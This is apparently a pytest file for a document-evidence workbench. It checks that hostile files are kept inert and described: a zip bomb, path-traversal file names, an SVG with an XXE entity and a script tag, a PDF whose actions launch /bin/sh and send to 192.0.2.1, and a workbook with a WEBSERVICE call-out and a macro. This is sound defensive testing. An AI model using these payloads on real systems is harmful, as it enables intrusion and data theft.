"""Hostile evidence is kept and shown as inert, or refused in one sentence; nothing is loaded, run or written outside.

What stands elsewhere: pages and actions of PDF files (preview/), pictures (gui/evidence/preview/), links, pipes and folders
(cli/test_hostile.py), and all of it without a socket (test_offline.py).
"""

import logging
import os
import random
import re
from dataclasses import asdict
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.core.intake.test_evidence import REPORT, pdf
from workbench.core import evidence
from workbench.core.errors import CannotShow, FileProblem
from workbench.core.intake import media, named_kind, read
from workbench.core.intake.limits import LIMITS
from workbench.core.metadata import read as metadata
from workbench.core.preview import mail, table
from workbench.core.preview.look import look
from workbench.core.preview.model import Facts, Wanted, Words
from workbench.core.store.workspace import Workspace

ASK = {
    "cell": "",
    "fragment": "",
    "evidence": "",
    "quote": "",
    "page": "",
    "paragraph": "",
    "time": "",
    "part": 0,
    "width": 600,
    "known": None,
}


def packed(parts: dict[str, bytes | str]) -> bytes:
    made = BytesIO()
    with ZipFile(made, "w", ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return made.getvalue()


def inside(data: bytes, name: str) -> dict:
    logging.disable(logging.CRITICAL)  # as in the child
    try:
        return metadata.read(data, name, asdict(LIMITS))
    finally:
        logging.disable(logging.NOTSET)


def files(folder: Path) -> list[Path]:
    return sorted(path for path in folder.rglob("*") if path.is_file())


def test_a_zip_bomb_that_is_named_a_document_is_kept_and_not_unpacked(
    workspace: Workspace, tmp_path: Path
) -> None:
    bomb = packed({"a": bytes(30 << 20), "b": bytes(30 << 20)})
    before = files(tmp_path)
    kept = evidence.add(workspace, read.evidence(data=bomb, file_name="plan.docx")).ids[0]
    assert evidence.content(workspace, kept) == bomb
    shown = look(workspace.path, Wanted(kept)).content
    assert isinstance(shown, Facts)
    assert shown.why.startswith("No words could be read from this file")
    found = inside(bomb, "plan.docx")
    assert found["mismatch"] == "It is named .docx, but is a ZIP archive with a, b."
    word = packed({"word/document.xml": b"<a/>", "docProps/core.xml": b"<a>" + bytes(30 << 20)})
    assert inside(word, "plan.docx")["note"] == metadata.NOT_READ
    assert files(tmp_path) == before


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../.bashrc", ".bashrc"),
        ("..\\..\\autoexec.bat", "autoexec.bat"),
        ("/home/ana/secret plans/quay.txt", "quay.txt"),
        ("plan\u202etxt.exe", "plantxt.exe"),
        ("a\0b.txt", "ab.txt"),
        ("a\r\nb\x1b[31m.txt", "ab[31m.txt"),
        ("x" * 5000 + ".txt", "x" * 196 + ".txt"),
        ("CON.txt", "CON.txt"),
    ],
    ids=["up", "up in Windows", "folders", "reversed", "nul", "terminal", "long", "device"],
)
def test_a_name_leads_nowhere_and_hides_nothing(given: str, kept: str) -> None:
    draft = read.evidence(data=b"The quay is 40 m long.", file_name=given)
    assert (draft.file_name, draft.text) == (kept, "The quay is 40 m long.")


def test_a_drawing_with_a_script_and_an_entity_is_shown_as_the_text_that_it_is(
    workspace: Workspace, tmp_path: Path
) -> None:
    (tmp_path / "secret").write_text("the secret")
    drawing = (
        f'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "{(tmp_path / "secret").as_uri()}">]>'
        '<svg xmlns="http://www.w3.org/2000/svg"><script>steal()</script><image href="http://192.0.2.1/x.png"/><text>&x;</text></svg>'
    )
    kept = evidence.add(workspace, read.evidence(data=drawing.encode(), file_name="a.svg")).ids[0]
    shown = look(workspace.path, Wanted(kept)).content
    assert isinstance(shown, Words)
    assert "&x;" in "".join(line.text for line in shown.lines)
    assert "the secret" not in str((shown, inside(drawing.encode(), "a.svg")))


TRAP = (
    b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.launchURL\\('http://192.0.2.1/'\\)) >>] >> "
    b"/EmbeddedFiles << /Names [(x.exe) << /Type /Filespec /F (x.exe) /EF << >> >>] >> >> "
    b"/OpenAction << /S /Launch /F (/bin/sh) /Next [<< /S /JavaScript /JS (steal\\(\\)) >>] >> "
    b"/AA << /WC << /S /SubmitForm /F (http://192.0.2.1/) >> >> "
)
MARKS = (
    b"/AA << /O << /S /JavaScript /JS (steal\\(\\)) >> >> /Annots [<< /Subtype /Link /A << /S /URI /URI (http://192.0.2.1/) >> "
    b"/AA << /E << /S /GoToR /F (other.pdf) >> >> >> << /Subtype /FileAttachment /FS << /F (y.exe) /EF << >> >> >>] "
)


def trap(marks: bytes = MARKS) -> bytes:
    made = pdf(REPORT, "Trap").replace(b"/Type /Catalog ", b"/Type /Catalog " + TRAP)
    return made.replace(b"/Type /Page ", b"/Type /Page " + marks)


def test_a_pdf_says_what_it_would_do_and_what_is_attached() -> None:
    pages = trap().count(MARKS)
    assert {**dict(inside(trap(), "trap.pdf")["facts"]), "pages": ""} == {
        "title": "Trap",
        "author": "Ana Ruiz",
        "pages": "",
        "when opened": "Launch",
        "scripts": str(2 + pages),
        "programs to start": "1",
        "forms to send": "1",
        "addresses": str(pages),
        "links to other files": str(pages),
        "attached files": str(1 + pages),
    }
    quiet = dict(inside(pdf(REPORT, "Calm"), "calm.pdf")["facts"])
    assert quiet.keys() == {"title", "author", "pages"}


def test_actions_that_lead_in_circles_or_nowhere_are_counted_once() -> None:
    circle = b"/Annots [<< /A << /S /J#61vaScript >> >> 1 0 R 99 0 R << /A << /S /URI /Next 1 0 R >> /Parent 1 0 R >> null 7] "
    facts = dict(inside(trap(circle), "trap.pdf")["facts"])
    hidden = 3  # on each page one whose kind is spelled otherwise
    assert (facts["scripts"], facts["programs to start"]) == (str(2 + hidden), "1")


def test_a_pdf_whose_table_of_objects_is_elsewhere_still_says_what_it_would_do() -> None:
    for place in (0, trap().index(b"5 0 obj"), 999_999):
        data = re.sub(rb"startxref\s+\d+", b"startxref\n%d" % place, trap())
        assert dict(inside(data, "trap.pdf")["facts"])["when opened"] == "Launch"


def test_the_kind_of_an_action_may_stand_elsewhere_in_the_file() -> None:
    at = b"\n90 0 obj\n/Launch\nendobj\nxref\n"
    data = pdf(REPORT).replace(b"/Type /Catalog ", b"/Type /Catalog /OpenAction << /S 90 0 R >> ")
    found = dict(inside(data.replace(b"\nxref\n", at, 1), "a.pdf")["facts"])
    assert (found["when opened"], found["programs to start"]) == ("Launch", "1")


@settings(max_examples=50)
@given(st.integers(0, 10**6))
def test_a_damaged_pdf_says_what_is_left_of_it_or_that_it_cannot_be_read(seed: int) -> None:
    chance, data = random.Random(seed), bytearray(trap())
    for _change in range(chance.randrange(1, 30)):
        data[chance.randrange(5, len(data))] = chance.choice(b"<>[]()/ 0R\n9")
    for _cut in range(chance.randrange(3)):
        at = chance.randrange(5, len(data))
        del data[at : at + 40]
    found = inside(bytes(data), "trap.pdf")
    assert found["note"] or dict(found["facts"])["pages"]


def test_an_e_mail_nested_a_thousand_deep_says_who_sent_it_and_is_not_unfolded() -> None:
    head = b"From: ida@almen.example\r\nTo: bo@almen.example\r\nMessage-ID: <1@almen.example>\r\nMIME-Version: 1.0\r\n"
    body = b"".join(
        b'Content-Type: multipart/mixed; boundary="b%d"\r\n\r\n--b%d\r\n' % (depth, depth)
        for depth in range(1000)
    )
    with pytest.raises(CannotShow, match="far more parts"):
        mail.read(head + body, asdict(LIMITS), ASK)
    assert dict(inside(head + body, "m.eml")["facts"])["from"] == "ida@almen.example"


def test_a_workbook_with_formulas_and_links_outside_shows_what_was_stored() -> None:
    space = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    package = "http://schemas.openxmlformats.org/package/2006"
    kinds = "application/vnd.openxmlformats-officedocument.spreadsheetml"
    book = packed(
        {
            "[Content_Types].xml": f'<Types xmlns="{package}/content-types"><Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{kinds}.sheet.main+xml"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="{kinds}.worksheet+xml"/></Types>',
            "_rels/.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r" '
            f'Type="{office}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
            "xl/workbook.xml": f'<workbook {space} xmlns:r="{office}"><sheets>'
            '<sheet name="A" sheetId="1" r:id="r1"/></sheets></workbook>',
            "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{package}/relationships"><Relationship Id="r1" '
            f'Type="{office}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
            "xl/worksheets/sheet1.xml": f'<worksheet {space}><sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://192.0.2.1/")</f>'
            '<v>412</v></c><c r="B1" t="str"><f>[1]A!A1</f><v>boats</v></c></row></sheetData></worksheet>',
            "xl/externalLinks/externalLink1.xml": "<externalLink/>",
            "xl/vbaProject.bin": "Shell",
        }
    )
    shown = table.read(book, named_kind.XLSX, asdict(LIMITS), ASK)
    assert shown["rows"] == [["412", "boats"]]
    found = inside(book, "a.xlsx")
    assert (found["kind"], found["mismatch"]) == (named_kind.XLSX, "")
    assert dict(found["facts"]) == {"links to other files": "1", "macros": "1"}


def test_a_recording_with_a_huge_mark_is_kept_and_says_nothing() -> None:
    data = b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + b"TIT2\x7f\x7f\x7f\x7f\0\0" + b"A" * 3_000_000
    draft = read.evidence(data=data, file_name="call.mp3")
    assert (draft.media_type, draft.text, len(draft.data)) == ("audio/mpeg", "", len(data))
    found = inside(data, "call.mp3")
    assert all(len(value) <= 300 for _, value in found["facts"])
    assert found["mismatch"] == ""


def test_a_file_that_is_written_to_while_it_is_read_is_refused(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path, look = tmp_path / "log.bin", os.fstat
    path.write_bytes(bytes(20_000))

    def written_after_a_look(descriptor: int) -> os.stat_result:
        found = look(descriptor)
        with path.open("ab") as file:
            file.write(b"more")
        return found

    with monkeypatch.context() as another_program:
        another_program.setattr(os, "fstat", written_after_a_look)
        with pytest.raises(FileProblem, match=r"log\.bin was changed by another program while it was read"):
            read.evidence(path)
    assert read.evidence(path).media_type == media.UNKNOWN
